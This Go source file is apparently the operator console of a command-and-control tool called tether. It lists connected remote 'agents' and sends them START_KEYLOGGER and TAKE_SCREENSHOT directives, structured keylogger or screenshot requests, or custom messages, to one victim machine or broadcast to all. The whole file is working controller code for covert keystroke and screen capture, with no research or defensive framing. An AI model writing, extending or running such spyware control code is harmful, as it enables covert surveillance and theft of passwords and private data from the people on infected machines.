// Package console is the operator prompt that runs alongside the listener.
// It lists connected agents and sends directives to one or all of them.
package console

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"strconv"
	"strings"
	"time"

	"github.com/pithecene-io/tether/cli/render"
	"github.com/pithecene-io/tether/log"
	"github.com/pithecene-io/tether/registry"
	"github.com/pithecene-io/tether/types"
	"github.com/pithecene-io/tether/wire"
)

// ErrExit is returned by Execute for the exit command.
var ErrExit = errors.New("exit")

// ErrNoAgents is returned when a command needs an agent and none is connected.
var ErrNoAgents = errors.New("no agents connected")

// Prompt is written before each line is read.
const Prompt = "tether> "

// AgentRow is one line of the agents listing.
type AgentRow struct {
	Index     int          `json:"index"`
	ConnID    types.ConnID `json:"conn_id"`
	Addr      string       `json:"addr"`
	Roles     []string     `json:"roles"`
	Connected time.Time    `json:"connected"`
}

// Options configures a Console. Registry and Out are required.
type Options struct {
	Registry *registry.Registry
	// Directory, when set, records an agent again after its roles change.
	Directory *registry.Directory
	Out       io.Writer
	Logger    *log.Logger
}

// Console executes operator commands against a registry.
type Console struct {
	reg       *registry.Registry
	directory *registry.Directory
	out       io.Writer
	logger    *log.Logger
}

// New creates a console.
func New(opts Options) *Console {
	if opts.Logger == nil {
		opts.Logger = log.NewNop()
	}
	return &Console{
		reg:       opts.Registry,
		directory: opts.Directory,
		out:       opts.Out,
		logger:    opts.Logger,
	}
}

// Run reads commands from in until EOF, the exit command, or ctx is done.
// Command errors are reported and do not stop the loop.
func (c *Console) Run(ctx context.Context, in io.Reader) error {
	lines := make(chan string)
	scanErr := make(chan error, 1)
	done := make(chan struct{})
	defer close(done)
	go func() {
		defer close(lines)
		sc := bufio.NewScanner(in)
		for sc.Scan() {
			select {
			case lines <- sc.Text():
			case <-ctx.Done():
				return
			case <-done:
				return
			}
		}
		scanErr <- sc.Err()
	}()

	for {
		fmt.Fprint(c.out, Prompt)
		select {
		case <-ctx.Done():
			return nil
		case line, ok := <-lines:
			if !ok {
				select {
				case err := <-scanErr:
					return err
				default:
					return nil
				}
			}
			err := c.Execute(line)
			if errors.Is(err, ErrExit) {
				return nil
			}
			if err != nil {
				fmt.Fprintf(c.out, "error: %v\n", err)
			}
		}
	}
}

// Execute runs one command line.
func (c *Console) Execute(line string) error {
	fields := strings.Fields(line)
	if len(fields) == 0 {
		return nil
	}
	args := fields[1:]

	switch strings.ToLower(fields[0]) {
	case "help":
		c.help()
		return nil
	case "agents":
		return c.listAgents()
	case "keylogger":
		return c.directive(args, types.DirectiveStartKeylogger)
	case "screenshot":
		return c.directive(args, types.DirectiveTakeScreenshot)
	case "request":
		return c.request(args)
	case "send":
		if len(args) < 2 {
			return errors.New("usage: send <agent> <message>")
		}
		return c.directive(args[:1], strings.Join(args[1:], " "))
	case "role":
		if len(args) != 2 {
			return errors.New("usage: role <agent> <role>")
		}
		return c.addRole(args[0], args[1])
	case "exit", "quit":
		return ErrExit
	default:
		return fmt.Errorf("unknown command %q (try help)", fields[0])
	}
}

func (c *Console) help() {
	fmt.Fprint(c.out, `commands:
  agents                          list connected agents
  keylogger <agent|all>           send START_KEYLOGGER
  screenshot <agent|all>          send TAKE_SCREENSHOT
  request <agent|all> <kind>      send a structured screenshot or keylogger request
  send <agent> <message>          send a custom text message
  role <agent> <role>             add a role to an agent
  exit                            stop the console
<agent> is a list index, an ip:port or an ip.
`)
}

func (c *Console) rows() []AgentRow {
	agents := c.reg.List()
	rows := make([]AgentRow, len(agents))
	for i, a := range agents {
		rows[i] = AgentRow{
			Index:     i + 1,
			ConnID:    a.ConnID,
			Addr:      a.Addr,
			Roles:     a.Roles,
			Connected: a.ConnectedAt,
		}
	}
	return rows
}

func (c *Console) listAgents() error {
	rows := c.rows()
	if len(rows) == 0 {
		fmt.Fprintln(c.out, "No agents connected.")
		return nil
	}
	return render.NewRendererWithWriter(render.FormatTable, true, c.out).Render(rows)
}

// resolve maps a 1-based list index or an address to an agent.
func (c *Console) resolve(sel string) (registry.Agent, error) {
	agents := c.reg.List()
	if len(agents) == 0 {
		return registry.Agent{}, ErrNoAgents
	}
	if n, err := strconv.Atoi(sel); err == nil {
		if n < 1 || n > len(agents) {
			return registry.Agent{}, fmt.Errorf("invalid selection %d (1-%d)", n, len(agents))
		}
		return agents[n-1], nil
	}
	if a, ok := c.reg.Find(sel); ok {
		return a, nil
	}
	return registry.Agent{}, fmt.Errorf("%w: %s", registry.ErrUnknownAgent, sel)
}

// directive sends text to the selected agent, or to every agent for "all".
func (c *Console) directive(args []string, text string) error {
	if len(args) != 1 {
		return errors.New("expected one agent selection or all")
	}
	return c.deliver(args[0], text, []byte(text))
}

func (c *Console) request(args []string) error {
	if len(args) != 2 {
		return errors.New("usage: request <agent|all> screenshot|keylogger")
	}
	var kind types.MessageType
	switch strings.ToLower(args[1]) {
	case "screenshot":
		kind = types.CommandScreenshot
	case "keylogger":
		kind = types.CommandKeylogger
	default:
		return fmt.Errorf("unknown request kind %q", args[1])
	}
	data, err := wire.EncodeCommand(kind)
	if err != nil {
		return err
	}
	return c.deliver(args[0], string(kind), data)
}

func (c *Console) deliver(sel, label string, data []byte) error {
	if strings.EqualFold(sel, "all") {
		n := c.reg.Len()
		if n == 0 {
			return ErrNoAgents
		}
		failed := c.reg.Broadcast(data)
		for _, e := range failed {
			fmt.Fprintf(c.out, "send to %s failed: %v\n", e.Addr, e.Err)
		}
		sent := max(n-len(failed), 0)
		c.logger.Info("directive broadcast", map[string]any{
			"directive": label,
			"sent":      sent,
			"failed":    len(failed),
		})
		fmt.Fprintf(c.out, "%s sent to %d agent(s)\n", label, sent)
		return nil
	}

	a, err := c.resolve(sel)
	if err != nil {
		return err
	}
	if err := c.reg.Send(a.ConnID, data); err != nil {
		return fmt.Errorf("send to %s: %w", a.Addr, err)
	}
	c.logger.Info("directive sent", map[string]any{
		"directive": label,
		"conn_id":   a.ConnID.String(),
		"peer":      a.Addr,
	})
	fmt.Fprintf(c.out, "%s sent to %s\n", label, a.Addr)
	return nil
}

func (c *Console) addRole(sel, role string) error {
	a, err := c.resolve(sel)
	if err != nil {
		return err
	}
	if err := c.reg.AddRole(a.ConnID, role); err != nil {
		return err
	}
	updated, ok := c.reg.Get(a.ConnID)
	if !ok {
		return fmt.Errorf("%w: %s", registry.ErrUnknownAgent, a.Addr)
	}
	if c.directory != nil {
		if _, err := c.directory.Record(updated.Record()); err != nil {
			c.logger.Warn("agent directory update failed", map[string]any{
				"peer":  a.Addr,
				"error": err.Error(),
			})
		}
	}
	fmt.Fprintf(c.out, "%s roles: %s\n", a.Addr, strings.Join(updated.Roles, ","))
	return nil
}
